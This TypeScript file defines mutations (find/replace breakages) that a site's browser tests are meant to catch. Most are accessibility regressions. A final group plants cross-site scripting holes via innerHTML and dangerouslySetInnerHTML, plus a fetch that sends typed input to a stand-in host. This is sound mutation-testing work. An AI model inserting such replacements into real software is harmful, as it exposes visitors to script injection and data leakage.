/** One thing broken in the site, as somebody might by accident, and the browser test that is to notice. */
export interface Breakage {
  /** What a visitor would suffer from. */
  readonly what: string;
  readonly file: string;
  /** Stands in the file exactly once. */
  readonly find: string;
  readonly replace: string;
  /** Name of a file of tests below `test/browser`, without its ending. */
  readonly spec: string;
  /** Which of its tests, as a pattern of their titles; all where absent. */
  readonly title?: string;
}

const CHECKER = 'src/islands/checker';
const MACHINES = 'src/islands/machines';
const SEARCH = 'src/scripts/search';

export const BREAKAGES: readonly Breakage[] = [
  // What axe sees: light, dark and any other look; every page, verdict, result and suggestion.
  {
    what: 'soft text is too dark in the dark',
    file: 'src/styles/tokens.css',
    find: '--ink-soft: light-dark(#525b61, #a9b3b9);',
    replace: '--ink-soft: light-dark(#525b61, #5b666d);',
    spec: 'axe-looks',
    title: 'dark.*\\(en\\)',
  },
  {
    what: 'the choice of a theme has no name',
    file: 'src/components/SiteHeader.astro',
    find: '<span class="visually-hidden">{site.theme}</span>',
    replace: '',
    spec: 'axe-looks',
    title: 'twice as large.*\\(ja\\)',
  },
  {
    what: 'the box names a list of suggestions that is not there',
    file: `${SEARCH}/combobox.ts`,
    find: "'aria-controls': LIST_ID,",
    replace: "'aria-controls': 'suggestions',",
    spec: 'axe-looks',
    title: 'forced colours.*\\(en\\)',
  },
  {
    what: 'two navigations have the same name',
    file: 'src/components/Contents.astro',
    find: 'aria-label={site.onThisPage}',
    replace: 'aria-label={site.nav}',
    spec: 'axe-pages',
    title: 'part 1 of',
  },
  {
    what: '“cannot tell” is too pale to read',
    file: 'src/styles/tokens.css',
    find: '--unknown: light-dark(#784b00, #f0c267);',
    replace: '--unknown: light-dark(#d9b36a, #f0c267);',
    spec: 'axe-checker',
    title: 'en, light, 360',
  },
  {
    what: 'the groups of search results skip a level of headings',
    file: `${SEARCH}/results-page.ts`,
    find: "element('h2', {}, words.kinds[kind]),",
    replace: "element('h4', {}, words.kinds[kind]),",
    spec: 'axe-search',
    title: 'ja, light',
  },
  {
    what: 'the field for a start time has no name',
    file: `${MACHINES}/MachineDetails.tsx`,
    find: '<label for="machine-start">{details.start}</label>',
    replace: '<p>{details.start}</p>',
    spec: 'axe-machines',
    title: 'en, light, 360, active',
  },
  {
    what: 'what stands for rows that are not drawn is a picture without a name',
    file: `${MACHINES}/ResultTable.tsx`,
    find: '<tr class="spacer" aria-hidden="true">',
    replace: '<tr class="spacer" role="img">',
    spec: 'axe-machines',
    title: 'too long to stand',
  },

  // What a keyboard reaches.
  {
    what: 'an edition table sorts by a press of the pointer only',
    file: 'src/scripts/sortable-table.ts',
    find: "button.addEventListener('click'",
    replace: "button.addEventListener('pointerdown'",
    spec: 'keyboard-site',
    title: 'theme, copying',
  },
  {
    what: 'the link to the other language is out of the way of Tab',
    file: 'src/components/SiteHeader.astro',
    find: 'hreflang={twin} data-twin>',
    replace: 'hreflang={twin} data-twin tabindex="-1">',
    spec: 'keyboard-site',
    title: 'theme, copying',
  },
  {
    what: 'the buttons that copy code are out of the way of Tab',
    file: 'src/components/CopyButton.astro',
    find: '<button type="button" data-copy={target}',
    replace: '<button type="button" tabindex="-1" data-copy={target}',
    spec: 'keyboard-site',
    title: 'theme, copying',
  },
  {
    what: 'the text for a ticket is copied by a press of the pointer only',
    file: `${CHECKER}/BelowVerdict.tsx`,
    find: 'data-copy-text onClick={actions?.copyText}',
    replace: 'data-copy-text onPointerDown={actions?.copyText}',
    spec: 'keyboard-site',
    title: 'theme, copying',
  },
  {
    what: 'the filter of the search is not heard',
    file: `${SEARCH}/results-page.ts`,
    find: "  kind.addEventListener('change', ask);\n",
    replace: '',
    spec: 'keyboard-site',
    title: 'filters and results',
  },
  {
    what: 'the arrow keys do not move in the suggestions',
    file: `${SEARCH}/combobox.ts`,
    find: "event.key === 'ArrowDown' || event.key === 'ArrowUp'",
    replace: 'false',
    spec: 'search-box',
    title: 'combobox',
  },
  {
    what: 'the focus can’t be seen',
    file: 'src/styles/base.css',
    find: ':focus-visible {',
    replace: ':focus-visible {\n  outline: 0 !important;',
    spec: 'keyboard',
    title: 'focus can be seen',
  },
  {
    what: 'the details of a machine do not give the focus back',
    file: `${MACHINES}/MachineDetails.tsx`,
    find: "event.currentTarget.closest('dialog')?.close()",
    replace: '(void event, actions.close())',
    spec: 'keyboard-machines',
    title: 'many machines by keyboard',
  },

  // What a screen reader hears.
  {
    what: 'the version’s field is not the one that its label names',
    file: `${CHECKER}/Checker.tsx`,
    find: 'for="checker-version"',
    replace: 'for="checker-version-field"',
    spec: 'screen-reader',
    title: 'the checker',
  },
  {
    what: 'the hint below the version is not tied to it',
    file: `${CHECKER}/Checker.tsx`,
    find: '            aria-describedby="checker-hint"\n',
    replace: '',
    spec: 'screen-reader',
    title: 'the checker: two named',
  },
  {
    what: 'a verdict is not announced',
    file: `${CHECKER}/Checker.tsx`,
    find: '<p class="visually-hidden" role="status">',
    replace: '<p class="visually-hidden">',
    spec: 'live-region',
  },
  {
    what: 'a verdict is announced at every key',
    file: `${CHECKER}/start.ts`,
    find: '}, TYPING_PAUSE_MS);',
    replace: '}, 0);',
    spec: 'live-region',
  },
  {
    what: 'the name of an update is a cell like any other',
    file: 'src/components/EditionTable.astro',
    find: '<th scope="row">\n                <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n              </th>',
    replace: '<td>\n                <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n              </td>',
    spec: 'screen-reader',
    title: 'an edition table at 1280',
  },
  {
    what: 'on a phone the head of an edition table is gone',
    file: 'src/styles/edition-table.css',
    find: '.edition-table thead tr {\n      display: flex;',
    replace: '.edition-table thead tr {\n      display: none;',
    spec: 'screen-reader',
    title: 'an edition table at 360',
  },
  {
    what: 'nothing says how a table is sorted',
    file: 'src/scripts/sortable-table.ts',
    find: "if (direction !== 'none') heading.ariaSort = direction;",
    replace: "if (direction !== 'none') heading.dataset['sorted'] = direction;",
    spec: 'screen-reader',
    title: 'an edition table at 1280',
  },
  {
    what: 'the chosen filter is not told',
    file: `${MACHINES}/VerdictFilter.tsx`,
    find: "aria-pressed={query.filter === ''}",
    replace: "data-pressed={query.filter === ''}",
    spec: 'screen-reader',
    title: 'the results: a table',
  },
  {
    what: 'a row of a long table does not say where it stands',
    file: `${MACHINES}/ResultRow.tsx`,
    find: '      class={`tone-${row.verdict}`}\n      aria-rowindex={index + 2}\n',
    replace: '      class={`tone-${row.verdict}`}\n',
    spec: 'screen-reader',
    title: 'the progress says',
  },
  {
    what: 'the progress has no name',
    file: `${MACHINES}/ReadingProgress.tsx`,
    find: ' aria-label={text} />',
    replace: ' />',
    spec: 'screen-reader',
    title: 'the progress says',
  },
  {
    what: 'the dialog of a machine has no name',
    file: `${MACHINES}/MachineDetails.tsx`,
    find: '      aria-labelledby="machine-details-title"\n',
    replace: '',
    spec: 'screen-reader',
    title: 'the details',
  },
  {
    what: 'what was wrong with a start time is not tied to its field',
    file: `${MACHINES}/MachineDetails.tsx`,
    find: '              aria-describedby="machine-start-hint"\n',
    replace: '',
    spec: 'screen-reader',
    title: 'the details',
  },
  {
    what: 'no suggestion is the active one',
    file: `${SEARCH}/combobox.ts`,
    find: "row.setAttribute('aria-selected', String(at === active))",
    replace: "row.classList.toggle('active', at === active)",
    spec: 'screen-reader',
    title: 'the search box',
  },
  {
    what: 'the box of the header has no name',
    file: 'src/components/SearchBox.astro',
    find: 'aria-label={search.label}',
    replace: 'data-label={search.label}',
    spec: 'screen-reader',
    title: 'names in the tree of the browser',
  },
  {
    what: 'what a search found is not announced',
    file: 'src/pages/[lang]/search/index.astro',
    find: '<p role="status" data-search-status>',
    replace: '<p data-search-status>',
    spec: 'screen-reader',
    title: 'the results of a search',
  },
  {
    what: 'the main navigation has no name',
    file: 'src/components/SiteHeader.astro',
    find: '<nav aria-label={site.nav}>',
    replace: '<nav>',
    spec: 'screen-reader',
    title: 'landmarks',
  },

  // What eyes and fingers need.
  {
    what: 'pages scroll smoothly where less motion is asked for',
    file: 'src/styles/base.css',
    find: '@media (prefers-reduced-motion: no-preference) {',
    replace: '@media all {',
    spec: 'reduced-motion',
  },
  {
    what: 'the details of a machine fade in',
    file: 'src/styles/machines.css',
    find: '  .table-tools :where(label, select) {',
    replace: '  .machine-details {\n    transition: opacity 0.2s;\n  }\n\n  .table-tools :where(label, select) {',
    spec: 'reduced-motion',
  },
  {
    what: 'buttons are too small for a finger, and close together',
    file: 'src/styles/machines.css',
    find: '  .table-tools :where(label, select) {',
    replace:
      '  .verdict-filter {\n    gap: 0 !important;\n  }\n\n  .verdict-filter button {\n    padding: 0 !important;\n    font-size: 0.5rem !important;\n    line-height: 1 !important;\n  }\n\n  .table-tools :where(label, select) {',
    spec: 'target-size',
    title: 'so are those',
  },
  {
    what: 'an edition table is wider than a phone',
    file: 'src/styles/edition-table.css',
    find: '  .edition-table .bulletin {',
    replace: '  .edition-table {\n    min-inline-size: 40rem;\n  }\n\n  .edition-table .bulletin {',
    spec: 'narrow',
    title: 'no page scrolls sideways',
  },
  {
    what: 'with forced colours the chosen filter looks like the rest',
    file: 'src/styles/machines.css',
    find: '      forced-color-adjust: none;\n      border-color: Highlight;\n      background: Highlight;\n',
    replace: '',
    spec: 'forced-colors',
  },
  {
    what: 'printed, the head of an edition table has half of its headings',
    file: 'src/styles/edition-table.css',
    find: '    .sort {\n      display: contents;\n    }',
    replace: '',
    spec: 'print',
  },
  {
    what: 'a theme that was chosen is forgotten on the next page',
    file: 'src/scripts/site.ts',
    find: "localStorage.setItem('theme', theme.value);",
    replace: "sessionStorage.setItem('theme-now', theme.value);",
    spec: 'theme',
  },
  {
    what: 'the verdict comes after the frame of its key',
    file: `${CHECKER}/start.ts`,
    find: '    edit: () => {\n      readFields(false);',
    replace: '    edit: () => {\n      setTimeout(readFields, 60, false);',
    spec: 'same-frame',
  },

  // What nobody may do.
  {
    what: 'what was typed becomes markup',
    file: `${CHECKER}/VerdictPanel.tsx`,
    find: '<span class="verdict-reason">{sentence}</span>',
    replace: '<span class="verdict-reason" dangerouslySetInnerHTML={{ __html: sentence }} />',
    spec: 'hostile-input',
  },
  {
    what: 'what was searched for becomes markup',
    file: `${SEARCH}/results-page.ts`,
    find: 'status.textContent =\n        hits.length === 0',
    replace: 'status.innerHTML =\n        hits.length === 0',
    spec: 'hostile-machines',
    title: 'a hostile search',
  },
  {
    what: 'the name of a machine becomes markup',
    file: `${MACHINES}/ResultRow.tsx`,
    find: '<bdi>{row.host}</bdi>',
    replace: '<bdi dangerouslySetInnerHTML={{ __html: row.host }} />',
    spec: 'hostile-machines',
    title: 'hostile lists',
  },
  {
    what: 'what was typed is sent away',
    file: `${CHECKER}/start.ts`,
    find: '      readFields(false);\n',
    replace:
      '      readFields(false);\n      void fetch(`https://elsewhere.example/${version.value}`).catch(() => undefined);\n',
    spec: 'verdicts',
  },
];
